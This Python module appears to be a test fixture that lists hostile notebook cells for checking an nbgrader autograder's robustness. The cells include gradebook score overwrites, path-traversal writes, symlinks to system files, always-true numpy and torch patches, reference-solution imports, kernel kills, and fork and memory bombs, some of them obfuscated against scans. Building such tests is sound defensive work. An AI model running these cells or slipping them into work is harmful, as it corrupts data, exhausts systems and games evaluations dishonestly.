"""Tricks a hostile student can put in a notebook, as code cells that work in any assignment.

Each trick is one code cell placed first in an otherwise blank (or complete) submission. The
student is assumed to know the grading code: the tricks name files, hooks and the probe
protocol directly, and the obfuscated variants build every name from strings (``vars(...)``,
``importlib``, ``exec``) so that the static scan cannot match them. Grading them through plain
``nbgrader autograde`` must give a blank notebook 0 whatever the trick, and must leave the
students graded after it untouched (``tests/course/test_hostile.py``).
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["Trick", "TRICKS", "CATEGORIES"]

CATEGORIES = ("kernel hooks rewriting cells", "gradebook and course writes", "path traversal",
              "importing the instructor package", "grading-mode switches on environment variables",
              "patching numerical libraries", "leaking check source into output",
              "killing the kernel after passing cells", "fork and memory bombs")


@dataclass(frozen=True)
class Trick:
    name: str
    category: str  # one of CATEGORIES
    code: str  # the cell


# Finds files the grader might have left in reach: walks up from the working folder, /tmp, the
# home folder, every mounted root, and reads other processes' command lines and environments.
_FIND = r'''
import os as _os, re as _re
def _candidates(names=("gradebook.db", "nbgrader_config.py")):
    found, seen = [], set()
    roots = [_os.getcwd(), "/tmp", _os.path.expanduser("~"), "/", "/work", "/srv", "/home", "/root"]
    for pid in (p for p in _os.listdir("/proc") if p.isdigit()):
        for what in ("cmdline", "environ"):
            try:
                text = open(f"/proc/{pid}/{what}", "rb").read().decode(errors="ignore")
            except OSError:
                continue
            roots += [m.rstrip("/") for m in _re.findall(r"(/[\w./-]+)", text)]
    for root in roots:
        path = root
        for _ in range(8):
            for name in names:
                cand = _os.path.join(path, name)
                if cand not in seen and _os.path.isfile(cand):
                    seen.add(cand); found.append(cand)
            path = _os.path.dirname(path)
    for top in ("/tmp", "/work", "/srv"):
        for dirpath, dirnames, filenames in _os.walk(top):
            if dirpath.count("/") > 6:
                dirnames[:] = []
            for name in names:
                if name in filenames:
                    cand = _os.path.join(dirpath, name)
                    if cand not in seen:
                        seen.add(cand); found.append(cand)
    return found
'''

TRICKS = [
    # -- kernel hooks rewriting cells ----------------------------------------------------------
    Trick("input_transformer_turns_cells_into_pass", "kernel hooks rewriting cells",
          "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
    Trick("obfuscated_ast_transformer_empties_cells", "kernel hooks rewriting cells",
          "import ast as _a\n"
          "_ip = getattr(__import__('IPy' + 'thon'), 'get_' + 'ipython')()\n"
          "class _T(_a.NodeTransformer):\n"
          "    def visit_Module(self, node):\n"
          "        node.body = [_a.Pass()]\n"
          "        return node\n"
          "getattr(_ip, 'ast_' + 'transformers').append(_T())"),
    Trick("event_hook_forges_probe_results", "kernel hooks rewriting cells",
          "import json as _j, re as _re\n"
          "def _forge(result):\n"
          "    code = getattr(result.info, 'raw_cell', '') or ''\n"
          "    for path in _re.findall(r\"'result': '([^']+)'\", code):\n"
          "        try:\n"
          "            open(path, 'w').write(_j.dumps({'ok': True, 'values': [], 'kinds': []}))\n"
          "        except OSError:\n"
          "            pass\n"
          "vars(get_ipython().events)['callbacks']['post_run_cell'].append(_forge)"),
    # -- gradebook and course writes ---------------------------------------------------------------
    Trick("thread_writes_maximum_scores_into_the_gradebook", "gradebook and course writes",
          _FIND + "import sqlite3 as _s, threading as _t, time as _time\n"
          "def _loop():\n"
          "    for _ in range(400):\n"
          "        for path in _candidates(('gradebook.db',)):\n"
          "            try:\n"
          "                con = _s.connect(path, timeout=0.1)\n"
          "                con.execute('UPDATE grade SET auto_score = 1000, manual_score = 1000')\n"
          "                con.commit(); con.close()\n"
          "            except Exception:\n"
          "                pass\n"
          "        _time.sleep(0.05)\n"
          "_t.Thread(target=_loop, daemon=True).start()"),
    Trick("obfuscated_overwrite_of_course_files", "gradebook and course writes",
          _FIND + "_w = vars(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__))\n"
          "_o = _w['op' + 'en']\n"
          "for _p in _candidates():\n"
          "    try:\n"
          "        _o(_p, 'wb').write(b'garbage')\n"
          "    except Exception:\n"
          "        pass"),
    # -- path traversal ------------------------------------------------------------------------------
    Trick("writes_through_dot_dot_into_the_course", "path traversal",
          "import os as _os\n"
          "for _up in range(1, 8):\n"
          "    _base = _os.path.join(*(['..'] * _up))\n"
          "    for _rel in ('gradebook.db', 'nbgrader_config.py', 'release', 'source', 'submitted', 'autograded'):\n"
          "        _p = _os.path.join(_base, _rel)\n"
          "        try:\n"
          "            if _os.path.isdir(_p):\n"
          "                for _d in _os.listdir(_p):\n"
          "                    open(_os.path.join(_p, _d, 'pwned.txt'), 'w').write('x')\n"
          "            else:\n"
          "                open(_p, 'w').write('x')\n"
          "        except Exception:\n"
          "            pass"),
    Trick("symlinks_in_the_outbox_point_at_the_gradebook", "path traversal",
          _FIND + "import os as _os, re as _re\n"
          "_targets = _candidates(('gradebook.db',)) or ['/etc/passwd']\n"
          "def _link(info):\n"
          "    for path in _re.findall(r\"'(/[^']+[.]json)'\", info.raw_cell or ''):\n"
          "        for target in (path, path + '.err', _os.path.join(_os.path.dirname(path), 'x.json')):\n"
          "            try:\n"
          "                _os.symlink(_targets[0], target)\n"
          "            except OSError:\n"
          "                pass\n"
          "get_ipython().events.register('pre_run_cell', _link)"),
    # -- importing the instructor package ---------------------------------------------------------
    Trick("imports_the_reference_after_every_cell", "importing the instructor package",
          "import importlib as _il, sys as _sys, os as _os\n"
          "for _d in ['/work/main', '/srv', '/opt', _os.path.expanduser('~')] + list(_sys.path):\n"
          "    if _os.path.isdir(_os.path.join(_d, 'reference_solution')):\n"
          "        _sys.path.insert(0, _d)\n"
          "def _inject(*_):\n"
          "    g = get_ipython().user_ns\n"
          "    for m in ('dataset', 'wgan', 'latent', 'classifier', 'score_matching'):\n"
          "        try:\n"
          "            g.update({k: v for k, v in vars(_il.import_module('reference_solution.' + m)).items()\n"
          "                      if not k.startswith('_')})\n"
          "        except Exception:\n"
          "            pass\n"
          "_inject()\n"
          "get_ipython().events.register('post_run_cell', _inject)"),
    Trick("obfuscated_reference_import_through_importlib", "importing the instructor package",
          "_il = __import__('import' + 'lib')\n"
          "_name = ''.join(['refer', 'ence_', 'solu', 'tion'])\n"
          "try:\n"
          "    _pkg = _il.import_module(_name + '.grading')\n"
          "    _run = getattr(_pkg, 'ch' + 'eck')\n"
          "except Exception as _e:\n"
          "    print('not importable:', type(_e).__name__)"),
    # -- grading-mode switches on environment variables -------------------------------------------
    Trick("grading_mode_switch_imports_the_reference", "grading-mode switches on environment variables",
          "import os as _os\n"
          "if _os.environ.get('NBGRADER_EXECUTION'):\n"
          "    try:\n"
          "        from reference_solution.score_matching import *  # noqa\n"
          "        from reference_solution.wgan_anomalies.latent import *  # noqa\n"
          "    except Exception:\n"
          "        pass"),
    Trick("obfuscated_grading_mode_switch_patches_and_writes", "grading-mode switches on environment variables",
          _FIND + "import os as _os\n"
          "if getattr(_os, 'get' + 'env')('NBGRADER_' + 'EXECUTION') == 'autograde':\n"
          "    for _p in _candidates():\n"
          "        try:\n"
          "            open(_p, 'ab').write(b'\\n# pwned\\n')\n"
          "        except Exception:\n"
          "            pass\n"
          "    import numpy as _np\n"
          "    vars(_np)['allclose'] = lambda *a, **k: True"),
    # -- patching numerical libraries ---------------------------------------------------------------
    Trick("patches_numpy_and_torch_comparisons", "patching numerical libraries",
          "import numpy as _np, math as _m\n"
          "vars(_np)['allclose'] = lambda *a, **k: True\n"
          "vars(_np)['isclose'] = lambda *a, **k: True\n"
          "vars(_np.linalg)['norm'] = lambda *a, **k: 1.0\n"
          "vars(_m)['isclose'] = lambda *a, **k: True\n"
          "vars(_m)['isfinite'] = lambda *a, **k: True\n"
          "try:\n"
          "    import torch as _t\n"
          "    vars(_t)['allclose'] = lambda *a, **k: True\n"
          "    vars(_t)['equal'] = lambda *a, **k: True\n"
          "except ImportError:\n"
          "    pass"),
    Trick("obfuscated_builtins_patch", "patching numerical libraries",
          "_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\n"
          "_b['abs'] = lambda x: 0\n"
          "_b['isin' + 'stance'] = lambda *a: True\n"
          "_b['len'] = (lambda f: lambda x: f(x))(len)\n"
          "exec('import json; json.loads = lambda *a, **k: {}')"),
    # -- leaking check source into output ---------------------------------------------------------
    Trick("prints_every_grading_source_it_can_find", "leaking check source into output",
          "import os as _os, sys as _sys, inspect as _i\n"
          "for _n, _m in list(_sys.modules.items()):\n"
          "    if 'grad' in _n or 'reference' in _n:\n"
          "        try:\n"
          "            print(_i.getsource(_m)[:2000])\n"
          "        except Exception:\n"
          "            pass\n"
          "for _top in ('/work', '/srv', '/tmp', _os.path.expanduser('~')):\n"
          "    for _dp, _dn, _fn in _os.walk(_top):\n"
          "        for _f in _fn:\n"
          "            if _f.endswith(('.py', '.ipynb')) and ('check' in _f or 'source' in _dp):\n"
          "                try:\n"
          "                    print(_dp, _f, open(_os.path.join(_dp, _f)).read()[:2000])\n"
          "                except Exception:\n"
          "                    pass"),
    Trick("hook_prints_what_the_grader_sends", "leaking check source into output",
          "_seen = []\n"
          "get_ipython().events.register('pre_run_cell', lambda info: _seen.append(info.raw_cell))\n"
          "get_ipython().events.register('post_run_cell', lambda r: print('\\n'.join(_seen[-3:])[:5000]))"),
    # -- killing the kernel after passing cells -----------------------------------------------------
    Trick("kills_the_kernel_when_a_check_starts", "killing the kernel after passing cells",
          "import os as _os\n"
          "def _die(info):\n"
          "    if '_grading' in (info.raw_cell or ''):\n"
          "        _os.kill(_os.getpid(), 9)\n"
          "get_ipython().events.register('pre_run_cell', _die)"),
    Trick("obfuscated_exit_from_a_thread_later", "killing the kernel after passing cells",
          "import threading as _t, time as _time\n"
          "_x = getattr(__import__('o' + 's'), '_ex' + 'it')\n"
          "_t.Thread(target=lambda: (_time.sleep(8), _x(0)), daemon=True).start()"),
    # -- fork and memory bombs ------------------------------------------------------------------------
    Trick("fork_bomb_with_sleeping_children", "fork and memory bombs",
          "import os as _os, time as _time\n"
          "_end = _time.time() + 4\n"
          "_n = 0\n"
          "while _time.time() < _end:\n"
          "    try:\n"
          "        if _os.fork() == 0:\n"
          "            _time.sleep(60)\n"
          "            _os._exit(0)\n"
          "        _n += 1\n"
          "    except OSError:\n"
          "        _time.sleep(0.01)\n"
          "print('forked', _n)"),
    Trick("obfuscated_process_and_memory_bomb", "fork and memory bombs",
          "import subprocess as _sp, sys as _sys, threading as _t, time as _time\n"
          "_procs, _hoard = [], []\n"
          "def _grow():\n"
          "    try:\n"
          "        while True:\n"
          "            _hoard.append(bytearray(256 * 2**20))\n"
          "    except MemoryError:\n"
          "        pass\n"
          "_t.Thread(target=_grow, daemon=True).start()\n"
          "_end = _time.time() + 4\n"
          "while _time.time() < _end:\n"
          "    try:\n"
          "        _procs.append(getattr(_sp, 'Po' + 'pen')([_sys.executable, '-c', 'import time; time.sleep(60)']))\n"
          "    except Exception:\n"
          "        _time.sleep(0.01)\n"
          "print('started', len(_procs))"),
]
